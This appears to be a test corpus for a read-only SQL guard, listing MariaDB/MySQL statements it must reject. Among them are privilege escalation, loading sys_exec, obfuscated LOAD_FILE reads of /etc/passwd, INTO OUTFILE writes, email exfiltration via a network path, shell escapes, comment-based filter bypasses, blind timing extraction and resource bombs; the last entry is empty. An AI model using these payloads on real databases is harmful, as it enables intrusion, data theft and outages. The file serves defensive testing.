-- write: plain insert
INSERT INTO customer (id, name, email, balance_cents) VALUES (9001, 'Mallory', 'm@example.invalid', 1)
---
-- write: insert set
INSERT INTO customer SET id = 9002, name = 'set'
---
-- write: insert ignore from select
INSERT IGNORE INTO customer SELECT id + 100000, name, email, balance_cents FROM customer
---
-- write: insert on duplicate key update
INSERT INTO customer VALUES (1, 'x', 'x', 0) ON DUPLICATE KEY UPDATE balance_cents = VALUES(balance_cents)
---
-- write: insert returning
INSERT INTO customer (id, name) VALUES (9003, 'r') RETURNING id, name
---
-- write: insert delayed and priorities
INSERT HIGH_PRIORITY INTO customer (id) VALUES (9004)
---
-- write: insert delayed
INSERT DELAYED INTO customer (id) VALUES (9005)
---
-- write: insert without into
INSERT customer VALUES (9006, 'no into', NULL, 0)
---
-- write: insert with value in the singular
INSERT customer (id) VALUE (9007)
---
-- write: insert with no columns
INSERT INTO orders () VALUES ()
---
-- write: replace
REPLACE INTO customer (id, name) VALUES (1, 'replaced')
---
-- write: replace set
REPLACE customer SET id = 1, name = 'replaced'
---
-- write: replace select returning
REPLACE INTO customer SELECT * FROM customer RETURNING id
---
-- write: replace delayed, without into
REPLACE LOW_PRIORITY customer VALUES (1, 'a', 'b', 3)
---
-- write: plain update
UPDATE customer SET balance_cents = 100000000
---
-- write: update low_priority ignore with order and limit
UPDATE LOW_PRIORITY IGNORE customer SET name = 'x' ORDER BY id DESC LIMIT 1
---
-- write: update of several tables
UPDATE customer c JOIN orders o ON o.customer_id = c.id SET c.name = 'x', o.status = 'void'
---
-- write: update with comma join
UPDATE customer, orders SET customer.name = 'x' WHERE orders.customer_id = customer.id
---
-- write: plain delete
DELETE FROM orders
---
-- write: delete quick ignore with limit
DELETE LOW_PRIORITY QUICK IGNORE FROM orders ORDER BY id LIMIT 10
---
-- write: delete returning
DELETE FROM orders WHERE id > 0 RETURNING id, status
---
-- write: delete of several tables
DELETE c, o FROM customer c JOIN orders o ON o.customer_id = c.id
---
-- write: delete with using
DELETE FROM orders USING orders INNER JOIN customer WHERE orders.customer_id = customer.id
---
-- write: delete history
DELETE HISTORY FROM customer BEFORE SYSTEM_TIME '2030-01-01'
---
-- write: delete for portion of
DELETE FROM orders FOR PORTION OF p FROM '2000-01-01' TO '2030-01-01'
---
-- write: mixed case with line breaks
dElEtE
	FrOm
	`orders`
	wHeRe `id` > 0
---
-- write: truncate
TRUNCATE orders
---
-- write: truncate table wait
TRUNCATE TABLE orders WAIT 1
---
-- write: explain of an update
EXPLAIN UPDATE customer SET name = 'x'
---
-- write: explain extended of a delete
EXPLAIN EXTENDED DELETE FROM orders
---
-- write: analyze runs the delete
ANALYZE DELETE FROM orders
---
-- write: analyze format=json runs the update
ANALYZE FORMAT=JSON UPDATE customer SET balance_cents = 0
---
-- write: analyze runs the insert
ANALYZE INSERT INTO customer (id) VALUES (9010)
---
-- write: analyze runs the replace
ANALYZE REPLACE INTO customer (id) VALUES (1)
---
-- write: describe of a delete
DESCRIBE DELETE FROM orders
---
-- write: desc with a format of an insert
DESC FORMAT=JSON INSERT INTO customer (id) VALUES (9011)
---
-- write: insert of a table value constructor
INSERT INTO customer (id) VALUES (9012), (9013), (9014)
---
-- write: insert from values statement with parentheses
INSERT INTO customer (SELECT 9015, 'p', 'p', 0)
---
-- write: update of the privilege table
UPDATE mysql.global_priv SET Priv = '{"access":18446744073709551615}' WHERE User = 'reader'
---
-- write: insert into the plugin table
INSERT INTO mysql.func VALUES ('sys_exec', 2, 'lib_mysqludf_sys.so', 'function')
---
-- write: general log table
TRUNCATE mysql.general_log
---
-- write: partition named
DELETE FROM orders PARTITION (p0) WHERE id = 1
---
-- write: begin not atomic compound statement
BEGIN NOT ATOMIC DELETE FROM orders; END
---
-- write: compound if at the top
IF 1 = 1 THEN DELETE FROM orders; END IF
---
-- write: compound while at the top
WHILE 1 DO DELETE FROM orders; END WHILE
---
-- write: compound loop at the top
LOOP DELETE FROM orders; END LOOP
---
-- write: compound repeat at the top
REPEAT DELETE FROM orders; UNTIL 1 END REPEAT
---
-- write: compound case at the top
CASE 1 WHEN 1 THEN DELETE FROM orders; END CASE
---
-- write: compound for at the top
FOR i IN 1..10 DO DELETE FROM orders WHERE id = i; END FOR
---
-- write: compound for over a cursor query
FOR r IN (SELECT id FROM orders) DO DELETE FROM orders WHERE id = r.id; END FOR
---
-- ddl: create table
CREATE TABLE evil (a INT)
---
-- ddl: create or replace table select
CREATE OR REPLACE TABLE evil_as SELECT * FROM customer
---
-- ddl: create temporary table
CREATE TEMPORARY TABLE evil_temp AS SELECT * FROM customer
---
-- ddl: create table like
CREATE TABLE IF NOT EXISTS evil_like LIKE customer
---
-- ddl: create table with an engine that opens a connection
CREATE TABLE evil_fed (a INT) ENGINE=FEDERATED CONNECTION='mysql://root@127.0.0.1:9/x/y'
---
-- ddl: create table by connect engine over a file
CREATE TABLE evil_connect (line VARCHAR(255)) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='{outside}'
---
-- ddl: create table with a data directory
CREATE TABLE evil_dir (a INT) ENGINE=MyISAM DATA DIRECTORY='/tmp'
---
-- ddl: create table by csv engine
CREATE TABLE evil_csv (a INT NOT NULL) ENGINE=CSV
---
-- ddl: create sequence
CREATE SEQUENCE evil_seq START WITH 1
---
-- ddl: alter and drop sequence
ALTER SEQUENCE evil_seq RESTART 1
---
-- ddl: create view
CREATE OR REPLACE ALGORITHM=MERGE SQL SECURITY DEFINER VIEW customer_v AS SELECT * FROM customer
---
-- ddl: create index
CREATE FULLTEXT INDEX evil_idx ON customer (email)
---
-- ddl: create function
CREATE FUNCTION evil_fn() RETURNS INT MODIFIES SQL DATA BEGIN DELETE FROM orders; RETURN 1; END
---
-- ddl: create procedure
CREATE PROCEDURE evil_proc() DELETE FROM orders
---
-- ddl: create aggregate function
CREATE AGGREGATE FUNCTION evil_agg(x INT) RETURNS INT BEGIN DECLARE CONTINUE HANDLER FOR NOT FOUND RETURN 1; LOOP FETCH GROUP NEXT ROW; END LOOP; END
---
-- ddl: create trigger
CREATE TRIGGER evil_trg BEFORE INSERT ON customer FOR EACH ROW SET NEW.balance_cents = 0
---
-- ddl: create event
CREATE EVENT evil_evt ON SCHEDULE EVERY 1 SECOND DO DELETE FROM orders
---
-- ddl: create udf from a library
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'
---
-- ddl: create package
SET sql_mode = ORACLE; CREATE PACKAGE evil_pkg AS PROCEDURE p(); END
---
-- ddl: create database
CREATE DATABASE evil_db
---
-- ddl: create schema with a character set
CREATE SCHEMA IF NOT EXISTS evil_schema DEFAULT CHARACTER SET utf8mb4
---
-- ddl: create user
CREATE USER 'evil'@'%' IDENTIFIED BY 'evil'
---
-- ddl: create role
CREATE ROLE evil_role WITH ADMIN CURRENT_USER
---
-- ddl: create server
CREATE SERVER evil_srv FOREIGN DATA WRAPPER mysql OPTIONS (HOST '127.0.0.1', PORT 9, USER 'root', PASSWORD 'x')
---
-- ddl: alter table
ALTER TABLE customer ADD COLUMN x INT DEFAULT (SLEEP(5))
---
-- ddl: alter table of the engine
ALTER ONLINE TABLE customer ENGINE=BLACKHOLE
---
-- ddl: alter table import tablespace
ALTER TABLE customer DISCARD TABLESPACE
---
-- ddl: alter table drop partition
ALTER TABLE orders TRUNCATE PARTITION ALL
---
-- ddl: alter user
ALTER USER CURRENT_USER() IDENTIFIED BY 'evil'
---
-- ddl: alter database
ALTER DATABASE mysql CHARACTER SET latin1
---
-- ddl: drop table
DROP TABLE orders
---
-- ddl: drop tables with comment inside the words
DROP TABLE /*!32312 IF EXISTS */ orders, customer
---
-- ddl: drop temporary table
DROP TEMPORARY TABLE IF EXISTS customer
---
-- ddl: drop database
DROP DATABASE mysql
---
-- ddl: drop user
DROP USER IF EXISTS root@localhost
---
-- ddl: drop index, view, trigger, event
DROP INDEX evil_idx ON customer
---
-- ddl: rename table
RENAME TABLE customer TO c2, orders TO customer, c2 TO orders
---
-- ddl: rename table if exists nowait
RENAME TABLE IF EXISTS customer NOWAIT TO c2
---
-- ddl: rename user
RENAME USER root@localhost TO evil@localhost
---
-- ddl: grant all
GRANT ALL PRIVILEGES ON *.* TO CURRENT_USER WITH GRANT OPTION
---
-- ddl: grant file and proxy
GRANT FILE, SUPER, PROCESS ON *.* TO 'evil'@'%'
---
-- ddl: revoke
REVOKE ALL PRIVILEGES, GRANT OPTION FROM CURRENT_USER
---
-- ddl: set password
SET PASSWORD = PASSWORD('evil')
---
-- ddl: set password for another
SET PASSWORD FOR root@localhost = PASSWORD('')
---
-- ddl: set role
SET ROLE evil_role
---
-- ddl: set default role
SET DEFAULT ROLE evil_role FOR CURRENT_USER
---
-- comments: executable comment holds the whole write
/*! DELETE FROM orders */
---
-- comments: executable comment with an old version
/*!50000 DELETE FROM orders */
---
-- comments: executable comment with a mariadb version
/*M! DELETE FROM orders */
---
-- comments: executable comment with a mariadb version of six digits
/*M!100100 DELETE FROM orders */
---
-- comments: executable comment, version of ten
/*!100100 DELETE FROM orders */
---
-- comments: executable comment with version zero
/*!00000 DELETE FROM orders */
---
-- comments: executable comment is the second statement
SELECT 1; /*! DELETE FROM orders */
---
-- comments: executable comment holds the semicolon
SELECT 1 /*! ; DELETE FROM orders */
---
-- comments: executable comment adds into outfile
SELECT * FROM customer /*!50000 INTO OUTFILE '{target}' */
---
-- comments: executable comment adds into outfile, mariadb only
SELECT * FROM customer /*M!100000 INTO DUMPFILE '{target}' */
---
-- comments: executable comment adds for update
SELECT * FROM customer /*! FOR UPDATE */
---
-- comments: executable comment in the middle of a call
SELECT /*!50001 SLEEP( */ /*!50001 30 */ /*!50001 ) */
---
-- comments: executable comment hides a function name
SELECT /*!LOAD_FILE*/('{outside}')
---
-- comments: executable comment hides the union
SELECT id FROM customer /*!UNION*//*!SELECT*/ user FROM mysql.user
---
-- comments: executable comment splits a statement into many
/*!DELETE*//*!FROM*//*!orders*/
---
-- comments: plain comment within an executable one
/*! DELETE /* plain */ FROM orders */
---
-- comments: passed-over comment within an executable one
/*!50000 DELETE /*!99999 x */ FROM orders */
---
-- comments: executable comment within an executable one
/*!50000 DELETE /*!50000 FROM */ orders */
---
-- comments: mariadb comment after a mysql one
/*!50000 SELECT 1 *//*M!100000 INTO OUTFILE '{target}' */
---
-- comments: mariadb comment within a mysql one
/*!50000 SELECT 1 /*M!100000 INTO OUTFILE '{target}' */ */
---
-- comments: version in the mysql 5.7 to 8 range is passed over, so the write that follows it counts
/*!50701 SELECT 1 -- */ DELETE FROM orders
---
-- comments: version of a later server hides a closing quote
SELECT '/*!99999 '; DELETE FROM orders; -- ' */
---
-- comments: later version is a comment, in it an end mark in a string
/*!999999 ' */ DELETE FROM orders -- '
---
-- comments: comments do not nest, the write follows the first end mark
SELECT 1 /* /* */ ; DELETE FROM orders /* */
---
-- comments: hash comment ends with the line
SELECT 1 # harmless
; DELETE FROM orders
---
-- comments: hash comment hides the quote
SELECT 1 # '
; DELETE FROM orders # '
---
-- comments: hash directly after a word
SELECT 1#comment
INTO OUTFILE '{target}'
---
-- comments: two dashes without a blank are minus minus
SELECT 1--1; DELETE FROM orders
---
-- comments: two dashes without a blank do not hide the outfile
SELECT 5--1 INTO OUTFILE '{target}'
---
-- comments: two dashes with a tab are a comment
SELECT 1 --	'
; DELETE FROM orders --	'
---
-- comments: comment between name and parenthesis
SELECT LOAD_FILE/**/('{outside}')
---
-- comments: comment instead of blanks
SELECT/**/*/**/FROM/**/customer/**/INTO/**/OUTFILE/**/'{target}'
---
-- comments: unterminated comment
SELECT 1; DELETE FROM orders; /* never closed
---
-- comments: unterminated executable comment
/*! DELETE FROM orders
---
-- comments: empty version mark
/*!*/DELETE FROM orders/*!*/
---
-- comments: star directly before a comment looks like an end mark
SELECT 2 */*x*/ 1; DELETE FROM orders
---
-- comments: hint comment
SELECT /*+ SET_VAR(sql_mode='') MAX_EXECUTION_TIME(0) */ SLEEP(30)
---
-- comments: blank between slash star and mark is a plain comment
/* ! SELECT 1 */ DELETE FROM orders
---
-- comments: m in lower case is a plain comment, upper case is run
/*m! x */ /*M! DELETE FROM orders */
---
-- comments: version digits run into the code
SELECT 1 /*!500001 */ ; DELETE FROM orders
---
-- comments: version of five digits then the number one
SELECT 1 /*!50000+SLEEP(30)*/
---
-- several: second statement writes
SELECT 1; DELETE FROM orders
---
-- several: commit and write
COMMIT; DELETE FROM orders
---
-- several: start read write and write
ROLLBACK; START TRANSACTION READ WRITE; DELETE FROM orders; COMMIT
---
-- several: set transaction and write
SET SESSION TRANSACTION READ WRITE; UPDATE customer SET name = 'x'
---
-- several: commit and chain release
COMMIT WORK AND CHAIN NO RELEASE; DELETE FROM orders
---
-- several: commit alone
COMMIT
---
-- several: rollback release
ROLLBACK AND NO CHAIN RELEASE
---
-- several: begin alone
BEGIN
---
-- several: start transaction with a snapshot
START TRANSACTION WITH CONSISTENT SNAPSHOT, READ WRITE
---
-- several: savepoint
SAVEPOINT s; DELETE FROM orders; RELEASE SAVEPOINT s
---
-- several: rollback to
ROLLBACK TO SAVEPOINT s
---
-- several: implicit commit by ddl and then write
CREATE TEMPORARY TABLE t (a INT); DROP TABLE IF EXISTS nothing_here; DELETE FROM orders
---
-- several: xa
XA START 'evil'; DELETE FROM orders; XA END 'evil'; XA PREPARE 'evil'; XA COMMIT 'evil'
---
-- several: xa start alone
XA START 'evil', 'branch', 1
---
-- several: xa recover
XA RECOVER FORMAT='SQL'
---
-- several: xa rollback
XA ROLLBACK 'evil'
---
-- several: delimiter command of the client
DELIMITER //
SELECT 1; DELETE FROM orders //
DELIMITER ;
---
-- several: client commands
\! touch {target}
---
-- several: client command system
system touch {target}
---
-- several: client command tee
tee {target}
SELECT * FROM customer;
---
-- several: client command source
source {outside}
---
-- several: vertical output mark of the client
SELECT 1\G DELETE FROM orders\G
---
-- several: empty statements
;;;SELECT 1;;;DELETE FROM orders;;;
---
-- several: change database and write
USE mysql; DELETE FROM global_priv
---
-- several: use alone
USE mysql
---
-- several: get diagnostics
GET DIAGNOSTICS @n = NUMBER
---
-- several: signal
SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'stop'
---
-- several: resignal
RESIGNAL
---
-- cte: with before a delete
WITH x AS (SELECT id FROM customer) DELETE FROM orders WHERE customer_id IN (SELECT id FROM x)
---
-- cte: with before an update
WITH x AS (SELECT 1 AS id) UPDATE customer SET name = 'x' WHERE id IN (SELECT id FROM x)
---
-- cte: insert with a cte as its source
INSERT INTO customer (id) WITH x AS (SELECT 9040 AS id) SELECT id FROM x
---
-- cte: replace with a cte as its source
REPLACE INTO customer (id) WITH RECURSIVE x AS (SELECT 1 AS id UNION SELECT id + 1 FROM x WHERE id < 5) SELECT id FROM x
---
-- cte: create table with a cte as its source
CREATE TABLE evil_cte AS WITH x AS (SELECT * FROM customer) SELECT * FROM x
---
-- cte: with and into outfile
WITH x AS (SELECT * FROM customer) SELECT * FROM x INTO OUTFILE '{target}'
---
-- cte: with and for update
WITH x AS (SELECT * FROM customer FOR UPDATE) SELECT * FROM x
---
-- cte: delete returning in a cte as another server would have it
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
---
-- cte: names that look harmless
WITH `select` AS (SELECT 1 AS `from`) SELECT `from` FROM `select` INTO DUMPFILE '{target}'
---
-- files: into outfile
SELECT * FROM customer INTO OUTFILE '{target}'
---
-- files: into outfile before from
SELECT * INTO OUTFILE '{target}' FROM customer
---
-- files: into outfile with all options
SELECT id, email INTO OUTFILE '{target}' CHARACTER SET utf8mb4 FIELDS TERMINATED BY ',' OPTIONALLY ENCLOSED BY '"' ESCAPED BY '\\' LINES STARTING BY '' TERMINATED BY '\n' FROM customer WHERE id > 0
---
-- files: into dumpfile
SELECT 'owned' INTO DUMPFILE '{target}'
---
-- files: into dumpfile of a hex string
SELECT 0x3c3f706870 INTO DUMPFILE '{target}'
---
-- files: into outfile after a union
SELECT 1 UNION SELECT 2 INTO OUTFILE '{target}'
---
-- files: into outfile in double quotes
SELECT name FROM customer INTO OUTFILE "{target}"
---
-- files: into outfile after limit and order
SELECT name FROM customer ORDER BY id LIMIT 1 INTO OUTFILE '{target}'
---
-- files: into outfile before a lock clause
SELECT name FROM customer INTO OUTFILE '{target}' FOR UPDATE
---
-- files: into outfile of a values statement
VALUES (1), (2) INTO OUTFILE '{target}'
---
-- files: into outfile by a line starting clause that writes code
SELECT 1 INTO OUTFILE '{target}' LINES TERMINATED BY 0x6f776e6564
---
-- files: into outfile in mixed case with line breaks
SeLeCt 1
iNtO
oUtFiLe
'{target}'
---
-- files: into outfile in parentheses
(SELECT 1 INTO OUTFILE '{target}')
---
-- files: load data infile
LOAD DATA INFILE '{outside}' INTO TABLE customer
---
-- files: load data local infile
LOAD DATA LOCAL INFILE '{outside}' REPLACE INTO TABLE customer FIELDS TERMINATED BY ':' (name)
---
-- files: load data low_priority with set
LOAD DATA LOW_PRIORITY INFILE '{outside}' IGNORE INTO TABLE customer (@l) SET name = @l
---
-- files: load xml
LOAD XML LOCAL INFILE '{outside}' INTO TABLE customer ROWS IDENTIFIED BY '<row>'
---
-- files: load data into a variable only
LOAD DATA INFILE '{outside}' INTO TABLE customer (@v)
---
-- files: load index into cache
LOAD INDEX INTO CACHE customer
---
-- files: load_file
SELECT LOAD_FILE('{outside}')
---
-- files: load_file of a hex path
SELECT LOAD_FILE(0x2f6574632f706173737764)
---
-- files: load_file of a char path
SELECT LOAD_FILE(CHAR(47,101,116,99,47,112,97,115,115,119,100))
---
-- files: load_file of pieces
SELECT LOAD_FILE(CONCAT('/e', 'tc/', 'passwd'))
---
-- files: load_file of adjacent strings
SELECT LOAD_FILE('/etc' '/passwd')
---
-- files: load_file of an x string
SELECT LOAD_FILE(x'2f6574632f706173737764')
---
-- files: load_file of a base64 path
SELECT LOAD_FILE(FROM_BASE64('L2V0Yy9wYXNzd2Q='))
---
-- files: load_file with a character set mark
SELECT LOAD_FILE(_utf8mb4'{outside}')
---
-- files: load_file in lower case, wrapped
SELECT to_base64(load_file('{outside}')) AS f FROM customer LIMIT 1
---
-- files: load_file in order by
SELECT id FROM customer ORDER BY LENGTH(LOAD_FILE('{outside}'))
---
-- files: load_file by a backtick name
SELECT `load_file`('{outside}')
---
-- files: load_file with line breaks before the parenthesis
SELECT LOAD_FILE
('{outside}')
---
-- files: load_file in an error text
SELECT EXTRACTVALUE(1, CONCAT(0x7e, LOAD_FILE('{outside}')))
---
-- files: load_file to a network path
SELECT LOAD_FILE(CONCAT('\\\\', (SELECT email FROM customer LIMIT 1), '.example.invalid\\a'))
---
-- files: backup stage
BACKUP STAGE START
---
-- files: backup lock
BACKUP LOCK customer
---
-- files: repair reads and writes table files
REPAIR TABLE customer USE_FRM
---
-- network: change master
CHANGE MASTER TO MASTER_HOST='127.0.0.1', MASTER_PORT=9, MASTER_USER='x', MASTER_PASSWORD='y'
---
-- network: start slave
START SLAVE
---
-- network: start replica until
START REPLICA SQL_THREAD UNTIL MASTER_GTID_POS='0-1-1'
---
-- network: stop all slaves
STOP ALL SLAVES
---
-- network: reset slave and master
RESET SLAVE ALL
---
-- network: reset master removes the logs
RESET MASTER
---
-- network: master_pos_wait and gtid wait
SELECT MASTER_POS_WAIT('x', 1, 600), MASTER_GTID_WAIT('0-1-999999', 600)
---
-- network: federated server in a select
SELECT * FROM mysql.servers
---
-- network: spider direct sql
SELECT SPIDER_DIRECT_SQL('DELETE FROM orders', '', 'host "127.0.0.1", port "9"')
---
-- network: spider background sql
SELECT spider_bg_direct_sql('SELECT 1', 'customer', 'srv "evil_srv"')
---
-- network: handlersocket and http udfs
SELECT http_get('http://127.0.0.1:9/')
---
-- copy: create table over a remote table by federated
CREATE TABLE evil_copy ENGINE=FEDERATED CONNECTION='evil_srv/customer'
---
-- copy: checksum and copy of a table
CHECKSUM TABLE customer EXTENDED
---
-- copy: copy statement of other engines
COPY customer TO '{target}'
---
-- server: shutdown
SHUTDOWN
---
-- server: shutdown wait for all slaves
SHUTDOWN WAIT FOR ALL SLAVES
---
-- server: kill
KILL 1
---
-- server: kill hard query
KILL HARD QUERY 1
---
-- server: kill soft connection
KILL SOFT CONNECTION 5
---
-- server: kill by query id
KILL QUERY ID 10
---
-- server: kill by user
KILL USER root@localhost
---
-- server: kill of an expression
KILL CONNECTION_ID()
---
-- server: kill of a subquery's number
KILL (SELECT MIN(ID) FROM information_schema.processlist)
---
-- server: flush tables with read lock
FLUSH TABLES WITH READ LOCK
---
-- server: flush privileges
FLUSH PRIVILEGES
---
-- server: flush logs
FLUSH NO_WRITE_TO_BINLOG LOGS
---
-- server: flush local binary, error, general, slow logs
FLUSH LOCAL BINARY LOGS, ERROR LOGS, GENERAL LOGS, SLOW LOGS
---
-- server: flush table for export
FLUSH TABLES customer FOR EXPORT
---
-- server: flush status, hosts, user_resources, query cache
FLUSH STATUS
---
-- server: reset query cache
RESET QUERY CACHE
---
-- server: purge binary logs
PURGE BINARY LOGS BEFORE NOW()
---
-- server: install plugin
INSTALL PLUGIN evil SONAME 'evil.so'
---
-- server: install soname
INSTALL SONAME 'ha_connect'
---
-- server: uninstall plugin
UNINSTALL PLUGIN IF EXISTS unix_socket
---
-- server: uninstall soname
UNINSTALL SONAME 'auth_socket'
---
-- server: analyze table
ANALYZE TABLE customer PERSISTENT FOR ALL
---
-- server: optimize table
OPTIMIZE NO_WRITE_TO_BINLOG TABLE customer
---
-- server: repair table
REPAIR TABLE customer QUICK EXTENDED
---
-- server: check table
CHECK TABLE customer EXTENDED
---
-- server: check view of an upgrade
CHECK VIEW customer_v FOR UPGRADE
---
-- server: cache index
CACHE INDEX customer IN hot_cache
---
-- server: binlog
BINLOG 'SOgWTg8BAAAAbgAAAHIAAAAAAAQANS'
---
-- server: help statement
HELP 'contents'
---
-- locks: get_lock
SELECT GET_LOCK('evil', 600)
---
-- locks: get_lock without an end
SELECT GET_LOCK('evil', -1)
---
-- locks: release_all_locks, release_lock
SELECT RELEASE_LOCK('evil'), RELEASE_ALL_LOCKS()
---
-- locks: is_free_lock and is_used_lock
SELECT IS_FREE_LOCK('evil'), IS_USED_LOCK('evil')
---
-- locks: get_lock with a blank and a comment before the parenthesis
SELECT get_lock /* x */ (CONCAT('e', id), 10) FROM customer
---
-- locks: get_lock by do
DO GET_LOCK('evil', 600)
---
-- locks: lock tables
LOCK TABLES customer WRITE, orders READ LOCAL
---
-- locks: lock table with an alias and a wait
LOCK TABLE customer AS c WRITE WAIT 600
---
-- locks: lock tables write concurrent
LOCK TABLES customer WRITE CONCURRENT
---
-- locks: unlock tables
UNLOCK TABLES
---
-- locks: for update
SELECT * FROM customer FOR UPDATE
---
-- locks: for update nowait
SELECT * FROM customer WHERE id = 1 FOR UPDATE NOWAIT
---
-- locks: for update wait
SELECT * FROM customer FOR UPDATE WAIT 600
---
-- locks: for update skip locked
SELECT * FROM customer LIMIT 1 FOR UPDATE SKIP LOCKED
---
-- locks: lock in share mode
SELECT * FROM customer LOCK IN SHARE MODE
---
-- locks: lock in share mode with comments between
SELECT * FROM customer LOCK/**/IN/*x*/SHARE#
MODE
---
-- locks: lock in share mode nowait in a subquery
SELECT (SELECT id FROM customer LIMIT 1 LOCK IN SHARE MODE NOWAIT)
---
-- locks: for update in a derived table
SELECT COUNT(*) FROM (SELECT * FROM orders FOR UPDATE) d
---
-- locks: handler open
HANDLER customer OPEN
---
-- locks: handler open as, read, close
HANDLER customer OPEN AS h; HANDLER h READ FIRST; HANDLER h CLOSE
---
-- locks: handler read by a key
HANDLER customer READ `PRIMARY` >= (1) LIMIT 100
---
-- time: sleep
SELECT SLEEP(60)
---
-- time: sleep in lower case with a blank before the parenthesis
SELECT sleep (60)
---
-- time: sleep in where, once a row
SELECT * FROM customer WHERE SLEEP(5) = 0
---
-- time: sleep by a backtick name
SELECT `sleep`(60)
---
-- time: sleep in order by
SELECT id FROM customer ORDER BY SLEEP(10)
---
-- time: sleep in group by and having
SELECT COUNT(*) FROM customer GROUP BY SLEEP(5) HAVING SLEEP(5) = 0
---
-- time: sleep in a join condition
SELECT * FROM customer c LEFT JOIN orders o ON o.customer_id = c.id AND SLEEP(1) = 0
---
-- time: sleep in a window
SELECT SUM(id) OVER (PARTITION BY SLEEP(1) ORDER BY id) FROM customer
---
-- time: sleep in if and case
SELECT IF((SELECT COUNT(*) FROM customer) > 0, SLEEP(10), 0), CASE WHEN 1 THEN SLEEP(10) END
---
-- time: sleep in a subquery in limit's place
SELECT id FROM customer WHERE id = (SELECT SLEEP(30)) LIMIT 1
---
-- time: sleep by do
DO SLEEP(60)
---
-- time: sleep by do with a list
DO 1, SLEEP(30), SLEEP(30)
---
-- time: sleep by a set
SET @x = SLEEP(60)
---
-- time: sleep in explain's derived table
EXPLAIN SELECT * FROM (SELECT SLEEP(60)) d
---
-- time: sleep in values
VALUES (SLEEP(60))
---
-- time: sleep hidden in a row and an interval
SELECT NOW() + INTERVAL SLEEP(30) SECOND
---
-- time: sleep within a set statement prefix
SET STATEMENT max_statement_time = 0 FOR SELECT SLEEP(600)
---
-- time: benchmark
SELECT BENCHMARK(1000000000, SHA2('x', 512))
---
-- time: benchmark in a boolean
SELECT * FROM customer WHERE id = 1 OR benchmark(1000000000, MD5(1))
---
-- time: benchmark with a query in it
SELECT BENCHMARK(100000000, (SELECT COUNT(*) FROM customer))
---
-- time: blind guess that sleeps when true
SELECT IF(SUBSTR((SELECT email FROM customer LIMIT 1), 1, 1) = 'a', SLEEP(10), 0)
---
-- time: recursive cte without an end
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r
---
-- time: recursive cte that doubles its rows
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r JOIN (SELECT 1 UNION SELECT 2) v) SELECT COUNT(*) FROM r
---
-- time: recursive cte that doubles its text
WITH RECURSIVE r AS (SELECT CAST('x' AS CHAR(1000000)) AS s UNION ALL SELECT CONCAT(s, s) FROM r) SELECT MAX(LENGTH(s)) FROM r
---
-- time: cross join of the schema tables
SELECT COUNT(*) FROM information_schema.columns a, information_schema.columns b, information_schema.columns c, information_schema.columns d
---
-- time: cross join of a sequence table
SELECT COUNT(*) FROM seq_1_to_1000000000 a, seq_1_to_1000000000 b
---
-- time: sequence table of a huge range
SELECT seq FROM seq_0_to_18446744073709551614_step_1
---
-- time: repeat memory bomb
SELECT REPEAT('x', 1000000000)
---
-- time: rpad, lpad and space memory bombs
SELECT RPAD('x', 1000000000, 'y'), LPAD('x', 1000000000, 'z'), SPACE(1000000000)
---
-- time: nested replace memory bomb
SELECT REPLACE(REPLACE(REPLACE(REPEAT('a', 1000), 'a', REPEAT('b', 1000)), 'b', REPEAT('c', 1000)), 'c', 'dddd')
---
-- time: group_concat bomb
SELECT GROUP_CONCAT(REPEAT('x', 1000000)) FROM seq_1_to_100000
---
-- time: json bomb
SELECT JSON_ARRAYAGG(REPEAT('x', 1000000)) FROM seq_1_to_100000
---
-- time: catastrophic regular expression
SELECT REPEAT('a', 40) REGEXP '^(a|a|aa)+\\1+b$'
---
-- time: regular expression with nested repeats
SELECT CONCAT(REPEAT('a', 100), '!') RLIKE '^(([a-z])+.)+[A-Z]([a-z])+$'
---
-- time: exponent by compression
SELECT LENGTH(UNCOMPRESS(COMPRESS(REPEAT('x', 900000000))))
---
-- time: wait for a random kind of key
SELECT ENCRYPT('x', 'y'), DES_ENCRYPT('x'), AES_ENCRYPT(REPEAT('x', 100000000), 'k')
---
-- settings: set global
SET GLOBAL general_log_file = '{target}'
---
-- settings: set global general_log
SET GLOBAL general_log = ON
---
-- settings: set @@global
SET @@global.read_only = 0
---
-- settings: set @@GLOBAL with blanks and backticks
SET @@GLOBAL . `secure_file_priv` = ''
---
-- settings: set session
SET SESSION sql_mode = 'ANSI_QUOTES,NO_BACKSLASH_ESCAPES'
---
-- settings: set tx_read_only
SET tx_read_only = 0
---
-- settings: set session transaction
SET SESSION TRANSACTION ISOLATION LEVEL READ UNCOMMITTED, READ WRITE
---
-- settings: set global transaction
SET GLOBAL TRANSACTION READ WRITE
---
-- settings: set max_statement_time
SET @@session.max_statement_time = 0
---
-- settings: set statement prefix around a write
SET STATEMENT sql_log_bin = 0 FOR DELETE FROM orders
---
-- settings: set statement prefix around a select
SET STATEMENT max_statement_time = 0, tx_read_only = 0 FOR SELECT * FROM customer
---
-- settings: set autocommit
SET autocommit = 1
---
-- settings: set foreign_key_checks and sql_log_bin
SET FOREIGN_KEY_CHECKS = 0, SQL_LOG_BIN = 0, UNIQUE_CHECKS = 0
---
-- settings: set names and character set
SET NAMES gbk COLLATE gbk_chinese_ci
---
-- settings: set character set
SET CHARACTER SET sjis
---
-- settings: set debug
SET SESSION debug_dbug = 'd:t:o,{target}'
---
-- settings: set debug_sync
SET DEBUG_SYNC = 'now WAIT_FOR evil'
---
-- settings: set a key cache of another name
SET GLOBAL evil_cache.key_buffer_size = 1000000000
---
-- settings: set global init_connect
SET GLOBAL init_connect = 'DELETE FROM orders'
---
-- settings: set global event_scheduler
SET GLOBAL event_scheduler = ON
---
-- settings: set global local_infile
SET GLOBAL local_infile = 1
---
-- settings: set slow query log file
SET GLOBAL slow_query_log_file = '{target}', GLOBAL slow_query_log = 1
---
-- settings: set a user variable
SET @a = 1
---
-- settings: set a user variable by colon
SET @a := (SELECT email FROM customer LIMIT 1), @b := 2
---
-- settings: user variable in a select
SELECT @a := 1
---
-- settings: user variable sums the rows
SELECT id, @total := @total + balance_cents FROM customer, (SELECT @total := 0) z
---
-- settings: quoted user variables
SELECT @`a b` := 1, @'c' := 2, @"d" := 3
---
-- settings: into a user variable
SELECT email INTO @stolen FROM customer LIMIT 1
---
-- settings: into user variables at the end
